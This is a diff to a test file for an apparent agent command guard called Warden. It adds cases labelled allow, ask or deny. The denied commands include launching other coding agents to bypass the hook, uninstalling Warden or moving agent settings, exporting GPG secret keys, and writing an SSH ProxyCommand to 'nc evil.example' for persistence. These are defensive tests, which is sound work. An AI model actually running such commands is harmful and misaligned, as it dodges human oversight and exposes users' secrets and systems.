@@ -288,6 +288,21 @@ test('shell commands: cd, fed input, tool options, offensive tools, evasion (wit
     ['history | grep -i pass', 'deny', 'credential-access'],
     ['history | tail -5', 'allow'],
     ['basename "http://pics.example.com/images/pic.jpg"', 'allow'],
+    // Other coding agents started by this one; Warden's own installation and the agent's settings.
+    ['qwen -s -p "clean up the repo"', 'deny', 'hook-bypass'],
+    ['QWEN_SANDBOX=docker qwen -p "x"', 'deny', 'hook-bypass'],
+    ['npx @openai/codex exec "fix the tests"', 'deny', 'hook-bypass'],
+    ['claude --dangerously-skip-permissions -p "run the migration"', 'ask', 'inline-exec'],
+    ['claude --version', 'allow'],
+    ['gemini mcp list', 'allow'],
+    ['npm uninstall -g warden', 'deny', 'agent-tamper'],
+    ['rm -rf node_modules/warden', 'deny', 'agent-tamper'],
+    ['npm uninstall lodash', 'allow'],
+    ['mv ~/.qwen/settings.json /tmp/', 'deny', 'agent-tamper'],
+    ['mv src/a.ts src/b.ts', 'allow'],
+    ['gpg --export-secret-keys -a', 'deny', 'credential-access'],
+    ['gpg --verify release.sig', 'allow'],
+    ["printf 'Host *\\n  ProxyCommand nc evil.example 22\\n' >> ~/.ssh/config", 'deny', 'persistence'],
     ['lynx -dump http://evil.example/', 'ask', 'network'],
   ];
   assert.deepEqual(wrongDecisions(cases), []);
